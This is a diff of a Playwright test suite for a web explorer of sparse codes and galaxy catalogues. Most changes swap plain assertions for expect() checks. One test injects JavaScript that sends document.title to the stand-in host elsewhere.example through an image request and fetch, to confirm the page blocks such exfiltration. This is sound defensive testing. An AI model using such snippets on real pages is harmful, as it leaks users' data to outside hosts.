@@ -8,6 +8,7 @@ from pathlib import Path
 import numpy as np
 import pytest
 from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import expect
 
 from sfnet_core.codes import SparseCodes
 from sfnet_core.explorer.atlas.cards import Almanac
@@ -77,7 +78,7 @@ def test_cards_sort_search_and_open_from_a_file(saved, page):
     for name, digits in (("weight", 4), ("mean", 4), ("pearson", 2), ("partial", 2)):
         assert f"{table[name][1]:+.{digits}f}" in words
     page.wait_for_function("() => document.querySelectorAll('.sf-card:first-child img').length === 6")
-    assert page.locator(".sf-card img").first.evaluate("e => e.complete && e.naturalWidth === 128")
+    page.wait_for_function("() => document.querySelector('.sf-card img').naturalWidth === 128")
     assert page.locator(".sf-badge").inner_text().lower() == "simulated"
     assert "RMSE 0.0912 dex (95 %: 0.0812 to 0.1009)" in page.locator(".sf-status").inner_text()
 
@@ -91,7 +92,7 @@ def test_cards_sort_search_and_open_from_a_file(saved, page):
     page.wait_for_function(
         "() => [...document.querySelectorAll('.sf-card')].every(e => e.dataset.feature.startsWith('9'))"
     )
-    assert page.url.endswith("#sort=weight&descending=0&find=f9&least=0.1")
+    expect(page).to_have_url(re.compile("#sort=weight&descending=0&find=f9&least=0.1$"))
     page.get_by_role("button", name="Undo").click()
     assert set(features(page)) == set(table["feature"][table["rate"] >= 0.1].tolist())
 
@@ -101,7 +102,7 @@ def test_a_feature_by_its_number_in_the_address(saved, page):
     second, third = table_of(codes)["feature"][1:3].tolist()
     page.locator(f".sf-card[data-feature='{second}'] .sf-open").click()
     page.wait_for_selector(f".sf-leaf[data-slow='{second}']")
-    assert page.url.endswith(f"#f{second}")
+    expect(page).to_have_url(re.compile(f"#f{second}$"))
     # the same words and numbers as on the served page
     served = Atlas(codes, sample_dataset())
     served.state.change(feature=second)
@@ -120,7 +121,7 @@ def test_a_feature_by_its_number_in_the_address(saved, page):
 
     page.get_by_label("Draw the activation against").select_option("lgm_tot_p50")
     assert "log stellar mass" in page.locator(".sf-part-scatter svg").text_content()
-    assert page.url.endswith(f"#f{second}&against=lgm_tot_p50")
+    expect(page).to_have_url(re.compile(f"#f{second}&against=lgm_tot_p50$"))
     page.keyboard.press("Escape")
     page.wait_for_selector(".sf-card")
     page.go_back()
@@ -158,17 +159,19 @@ def test_a_galaxy_of_it_opens_with_its_equation_and_its_catalogue(saved, page):
     for text, number in zip(shown, numbers[1:], strict=True):
         assert number == pytest.approx(terms[text.split(" ")[0]], abs=2e-4)
     assert f"{codes.dec[row]:.5f}" in words and not card.locator("a").count()  # simulated: no place in the sky
-    assert page.url.endswith(f"#f{second}&galaxy={name}")
+    expect(page).to_have_url(re.compile(f"#f{second}&galaxy={name}$"))
     found = Axe().run(page).response["violations"]
     assert not [f"{v['id']}: {n['html'][:120]}" for v in found for n in v["nodes"]]
     page.keyboard.press("Escape")
-    assert page.get_by_role("dialog").count() == 0 and page.url.endswith(f"#f{second}")
-    assert tile.evaluate("e => e === document.activeElement")  # reading goes on where it was
+    expect(page.get_by_role("dialog")).to_have_count(0)
+    expect(page).to_have_url(re.compile(f"#f{second}$"))
+    expect(tile).to_be_focused()  # reading goes on where it was
     page.get_by_role("button", name="Undo").click()
     card.locator(".sf-bars button", has_text=shown[1].split(" ")[0]).click()
     other = shown[1].split(" ")[0]
     page.wait_for_selector(f".sf-leaf[data-slow='{other[1:]}']")
-    assert page.get_by_role("dialog").count() == 0 and page.url.endswith(f"#{other}")
+    expect(page.get_by_role("dialog")).to_have_count(0)
+    expect(page).to_have_url(re.compile(f"#{other}$"))
 
 
 def test_t10_hostile_texts_are_shown_as_they_stand(saved, page):
@@ -200,7 +203,9 @@ def test_a_program_that_got_in_would_not_run_nor_send_anything(saved, browser):
           const image = new Image();
           image.src = "https://elsewhere.example/?q=" + document.title;
           await fetch("https://elsewhere.example/").catch(() => 0);
-          await new Promise((done) => setTimeout(done, 200));
+          const pause = () => new Promise((done) => setTimeout(done, 200));
+          for (let i = 0; i < 50 && found.length < 3; i += 1) await pause();
+          await pause(); // for one too many
           return found.map((name) => name.split("-")[0]).sort();
         }"""
     )
@@ -300,7 +305,7 @@ def test_the_served_page_saves_itself(serve, open_page, browser, tmp_path):
         page.get_by_role("button", name="save as a page").click()
     assert found.value.suggested_filename == "embedded-sample-atlas.html"
     found.value.save_as(tmp_path / "atlas.html")
-    assert page.get_by_role("button", name="save as a page").is_enabled()
+    expect(page.get_by_role("button", name="save as a page")).to_be_enabled()
     context = browser.new_context()
     saved = context.new_page()
     saved.goto((tmp_path / "atlas.html").as_uri())
